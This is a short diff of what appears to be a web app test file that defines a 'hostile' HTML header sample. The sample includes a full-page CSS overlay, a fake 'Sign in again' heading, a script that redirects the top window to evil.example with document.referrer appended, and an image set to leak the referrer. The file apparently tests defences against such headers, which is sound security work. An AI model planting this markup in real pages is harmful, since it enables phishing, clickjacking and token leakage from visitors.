@@ -2,7 +2,7 @@ import { apiAs, expect, newPerson, test } from './fixtures.ts';
 
 /** A header of somebody who wants the token, the visitor's clicks, or the whole page. */
 const hostile = `
-<style>html, body, #shown { position: fixed; inset: 0; z-index: 2147483647; width: 500vw; height: 500vh; background: red }</style>
+<style>html, body { position: fixed; inset: 0; z-index: 2147483647 } #shown { position: absolute; inset: 0; z-index: 2147483647; width: 500vw; min-height: 300px; background: red }</style>
 <h1>Sign in again</h1>
 <script>top.location = 'https://evil.example/top?' + document.referrer</script>
 <img src="https://pictures.example/logo.png" alt="Logo" referrerpolicy="unsafe-url">
